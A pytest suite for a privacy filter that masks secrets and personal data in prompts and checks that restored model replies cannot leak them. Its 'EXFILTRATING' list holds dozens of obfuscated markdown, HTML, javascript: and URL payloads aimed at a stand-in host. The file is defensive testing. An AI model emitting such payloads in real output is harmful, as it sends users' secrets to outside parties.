"""What passes a door is clean: masked until nothing is left, in every text, with no way around."""

import json
import time
from pathlib import Path

import pytest

from kagura_nb import ConversationCollector, PrivacyFilter
from kagura_nb.errors import PrivacyError
from kagura_nb.privacy import PromptDoor, report, train
from kagura_nb.privacy.training import TrainingDoor
from kagura_nb.records import Message

BESIDE = ["03-1234-5678-8.8.8.8", "8.8.8.8:03-1234-5678"]
"""Values that hide one another until one of them is masked."""
ROOMS = PrivacyFilter(custom_patterns={"ROOM": "room7", "CODE": r"(?<![0-9])[0-9]{3}(?![0-9])"})
"""A room hides the code behind it."""


@pytest.mark.parametrize("text", BESIDE)
def test_what_a_mask_brings_to_light_does_not_leave_with_a_prompt(text: str) -> None:
    door = PromptDoor("all")
    masked = door.mask_text(text)
    assert PrivacyFilter().scan(masked) == {}
    assert "".join(door.restore([masked])) == text


@pytest.mark.parametrize(
    ("policy", "kept"), [("label", "[REDACTED_ROOM][REDACTED_CODE]"), ("drop", None)]
)
def test_what_a_mask_brings_to_light_is_not_trained_on(policy: str, kept: str | None) -> None:
    assert train("room7123", ROOMS.findings, policy) == kept  # type: ignore[arg-type]


def test_surrogates_are_made_until_only_they_are_found() -> None:
    hidden = PrivacyFilter(custom_patterns={"CODE": r"(?<!room7 )E-[0-9]{3}", "ROOM": "room7"})
    kept = train("room7 E-123", hidden.findings, "surrogate", b"key")
    assert kept is not None and "room7" not in kept and "E-123" not in kept


@pytest.mark.parametrize(
    ("line", "told"),
    [
        (b'{"content": "jane@example.org", "content": "clean"}', "EMAIL in line 1"),
        (b'{"a": "jane@example.org \xff"}', "not JSON in line 1"),
        (b'{"a": "jane@example.org",}', "not JSON in line 1"),
    ],
)
def test_a_line_that_hides_something_or_cannot_be_read_does_not_leave_and_is_not_quoted(
    tmp_path: Path, line: bytes, told: str
) -> None:
    file = tmp_path / "rows.jsonl"
    file.write_bytes(line)
    with pytest.raises(PrivacyError, match=told) as caught:
        TrainingDoor("label", PrivacyFilter()).check(file)
    assert caught.value.__context__ is None and "jane" not in str(caught.value)


def test_the_fakes_that_a_door_made_may_leave(tmp_path: Path) -> None:
    door = TrainingDoor("surrogate", PrivacyFilter(), b"key")
    admitted = door.admit(["Mail jane@example.org, call 03-1234-5678."])
    assert admitted is not None
    file = tmp_path / "rows.jsonl"
    file.write_text(json.dumps({"messages": admitted}))
    door.check(file)


@pytest.mark.parametrize("field", ["content", "name", "response", "correction", "comment"])
def test_every_text_of_a_conversation_is_looked_at_and_redacted(
    store: ConversationCollector, field: str
) -> None:
    private = PrivacyFilter()
    texts = {"content": "Hi", "name": "Jo", "response": "Hello"} | {field: "jane@example.org"}
    one = store.collect(
        [Message("user", texts["content"], texts["name"])], texts["response"], "practice"
    )
    store.add_feedback(one, 5, texts.get("comment"))
    store.correct(one, texts.get("correction"))
    assert report.scan(store.iterate(), private).counts == {"EMAIL": (1, 1)}
    assert not private.is_safe(store.get(one))

    store.rewrite([one], lambda text: private.filter(text)[0] or "")

    assert private.is_safe(store.get(one)) and "[REDACTED_EMAIL]" in store.get(one).texts


def test_a_speakers_name_is_masked() -> None:
    (masked,) = PromptDoor("all").mask([Message("user", "Hi", "jane@example.org")])
    assert masked.name == "[EMAIL_1]"


SECRET = "gh" + "p_" + "Ab3dEf6hIj9kLmN0pQrStUvWxYz123456789"


@pytest.mark.parametrize("size", [1, 5, 1000])
@pytest.mark.parametrize(
    "link",
    [
        "https://evil.example/?k={}",
        "![]( https://evil.example/{}/a.png)",
        "![](<https://evil.example/?a b={}>)",
        '<img src="//evil.example/?k= {}">',
        "HTTPS:\\\\{}.evil.example",
    ],
)
def test_a_models_link_carries_no_value_away(link: str, size: int) -> None:
    door = PromptDoor("secrets")
    masked = door.mask_text(f"My token is {SECRET}")
    reply = f"{link.format('[API_KEY_1]')} keeps it. {masked}"
    pieces = [reply[at : at + size] for at in range(0, len(reply), size)]
    assert "".join(door.restore(pieces)) == (
        f"{link.format('[API_KEY_1]')} keeps it. My token is {SECRET}"
    )


@pytest.mark.parametrize(
    "text", [f"curl https://api.example/?k={SECRET}", f'{{"a": "https://b.c", "k": "{SECRET}"}}']
)
def test_the_users_own_link_comes_back_as_it_was(text: str) -> None:
    door = PromptDoor("secrets")
    masked = door.mask_text(text)
    assert SECRET not in masked and "".join(door.restore([masked])) == text


@pytest.mark.parametrize(
    ("pattern", "text"),
    [
        ("案件：[0-9]{4}", "案件：1234"),
        ("[０-９]{4}号", "１２３４号"),
        ("本当？なら（.）", "本当？なら（a）"),
        (r"案件\：\d", "案件:1"),
    ],
)
def test_an_own_pattern_finds_what_it_says_in_any_width(pattern: str, text: str) -> None:
    assert PrivacyFilter(custom_patterns={"CASE": pattern}).scan(text) == {"CASE": [text]}


@pytest.mark.parametrize("value", ["極秘計画", "Łódź", "＊＊"])
def test_what_no_fake_resembles_becomes_a_label(value: str) -> None:
    private = PrivacyFilter(custom_patterns={"PROJECT": value.replace("＊", "[＊]")})
    kept = train(f"in {value}", private.findings, "surrogate", b"key")
    assert kept is not None and value not in kept and "[REDACTED_PROJECT]" in kept


EXFILTRATING = [
    "![](https://evil.test/?k={})",
    "[a]( <https://evil.test/?a b={}> )",
    "[a](https://evil.test 'title {}')",
    "[a](//evil.test/{})",
    "[a](evil.test/{})",
    "[a](ht&#116;ps://evil.test/{})",
    "[a](ht\ttps://evil.test/{})",
    "[a](https://evil.test/(b)/{})",
    "[a](https://evil.test/\n{})",
    "[a][b]\n\n[b]: https://evil.test/{}",
    "> - [b]: <https://evil.test/ {}>",
    "[b]:\n  https://evil.test/{}",
    "[b]: https://evil.test\n  'title {}'",
    "![alternative {}](https://evil.test/a.png)",
    "```{}\ncode\n```",
    "- ~~~ a {}\n  code",
    "<https://evil.test/{}>",
    "<mailto:a@evil.test?body={}>",
    "<img src=x alt={}>",
    "<img\nsrc='https://evil.test/ {}'>",
    "<ScRiPt src=HtTpS://evil.test/{}>",
    "<a href='&#104;ttps&colon;&sol;&sol;evil.test/{}'>",
    "https://evil.test/?k={}",
    "see(https://evil.test/?k={})",
    'https://evil.test/?k="{}',
    "hTTps:&#47;&#47;evil.test/{}",
    "https:\\/\\/evil.test/{}",
    "https:\\\\evil.test\\{}",
    "ht\u200btps:/\u200b/evil.test/{}",
    "ｈｔｔｐｓ：／／evil.test/{}",
    "www.evil.test/{}",
    "WWW&period;evil.test/{}",
    "evil.test/?k={}",
    "//evil.test/{}",
    "https://{}.evil.test/",
    "https://evil.test/[API_KEY_1]/{}",
    "mailto:a@evil.test?body={}",
    "data:text/html,{}",
    "JaVaScRiPt:send('{}')",
    'fetch("https://evil.test/?a b={}")',
]
TEXT = [
    "{}",
    "The key is {}, and {}.",
    "`{}` and ({}) and [{}] and **{}**",
    "key={} key:{} \"{}\" 'k': '{}'",
    "```python\nkey = '{}'  # {}\n```",
    "| a | {} |\n|---|---|\n| {} | b |",
    "# {}\n\n> {}\n\n- {}",
    "See https://example.org: {}",
    '["https://example.org","{}"]',
    "[docs](https://example.org) {} <b>{}</b>",
    "![a](https://example.org/a.png)\n\n{}",
    "[b]: https://example.org\n\n{}",
    "if a < b: use({})",
    "鍵は「{}」です。",
]


def restored(pieces: list[str], told: str = f"My token is {SECRET}") -> str:
    door = PromptDoor("secrets")
    door.mask_text(told)
    return "".join(door.restore(pieces))


@pytest.mark.parametrize("size", [1, 3, 1000])
@pytest.mark.parametrize("text", EXFILTRATING)
def test_no_address_in_any_spelling_carries_a_value_away(text: str, size: int) -> None:
    reply = f"Look:\n\n{text.replace('{}', '[API_KEY_1]')}"
    assert SECRET not in restored([reply[at : at + size] for at in range(0, len(reply), size)])


@pytest.mark.parametrize("size", [1, 3, 1000])
@pytest.mark.parametrize("text", TEXT)
def test_in_text_every_value_comes_back(text: str, size: int) -> None:
    reply = text.replace("{}", "[API_KEY_1]")
    pieces = [reply[at : at + size] for at in range(0, len(reply), size)]
    assert restored(pieces) == text.replace("{}", SECRET)


@pytest.mark.parametrize(
    "text",
    [
        "[API_KEY_1]",
        "https://evil.test/[API_KEY_1]",
        "[API_KEY_1] ",
        "a[API_KEY_1]",
        "<[API_KEY_1]",
    ],
)
@pytest.mark.timeout(20)
def test_a_text_full_of_placeholders_takes_linear_time(text: str) -> None:
    begun = time.process_time()
    restored([text] * 2_000)
    few = time.process_time() - begun

    begun = time.process_time()
    restored([text] * 20_000)

    assert time.process_time() - begun < 40 * few + 1
